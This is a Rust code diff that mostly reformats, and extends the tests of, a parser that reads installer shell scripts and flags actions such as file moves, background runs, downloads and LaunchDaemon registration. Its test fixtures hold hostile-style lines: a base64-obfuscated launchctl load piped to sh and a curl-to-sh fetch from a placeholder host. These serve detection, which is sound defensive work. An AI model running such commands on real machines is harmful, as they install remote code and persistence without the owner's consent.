@@ -42,7 +42,13 @@ pub(crate) fn actions(text: &str) -> Vec<Found> {
     found
 }
 
-fn follow(text: &str, line: u32, nested: u32, variables: &mut HashMap<String, String>, found: &mut Vec<Found>) {
+fn follow(
+    text: &str,
+    line: u32,
+    nested: u32,
+    variables: &mut HashMap<String, String>,
+    found: &mut Vec<Found>,
+) {
     let commands = lexer::commands(text, line, variables, COMMANDS_MAX);
     for (at, command) in commands.iter().enumerate() {
         let chain = pipeline(&commands, at);
@@ -75,8 +81,21 @@ mod tests {
         assert_eq!(
             found,
             [
-                (3, Action::Move { from: "/Library/a/.com.x.plist".into(), to: "/Library/LaunchDaemons/com.x.plist".into() }),
-                (4, Action::Run { program: "/Library/x/run".into(), arguments: vec!["go".into()], background: true }),
+                (
+                    3,
+                    Action::Move {
+                        from: "/Library/a/.com.x.plist".into(),
+                        to: "/Library/LaunchDaemons/com.x.plist".into()
+                    }
+                ),
+                (
+                    4,
+                    Action::Run {
+                        program: "/Library/x/run".into(),
+                        arguments: vec!["go".into()],
+                        background: true
+                    }
+                ),
             ]
         );
     }
@@ -87,7 +106,16 @@ mod tests {
         let script = "echo bGF1bmNoY3RsIGxvYWQgL0xpYnJhcnkvTGF1bmNoRGFlbW9ucy9hLnBsaXN0 | base64 -d | sh";
         assert!(actions(script).iter().any(|(_, action)| matches!(action, Action::Register { .. })));
         let script = "bash -c 'curl -s https://a.example/x | sh'";
-        assert!(actions(script).iter().any(|(_, action)| matches!(action, Action::Download { runs: true, .. })));
+        assert!(
+            actions(script).iter().any(|(_, action)| matches!(action, Action::Download { runs: true, .. }))
+        );
+    }
+
+    /// As the preinst of Debian's spamassassin has it: an `sed` program in quotes within backticks within quotes.
+    #[test]
+    fn quotes_within_backticks_within_quotes_stay_together() {
+        let script = r#"old="`query -f='${C}' $N | sed -n -e \"\\\\' $F'{s/ obsolete$//;s/.* //p}\"`""#;
+        assert!(actions(script).iter().all(|(_, action)| !matches!(action, Action::Run { .. })));
     }
 
     #[test]
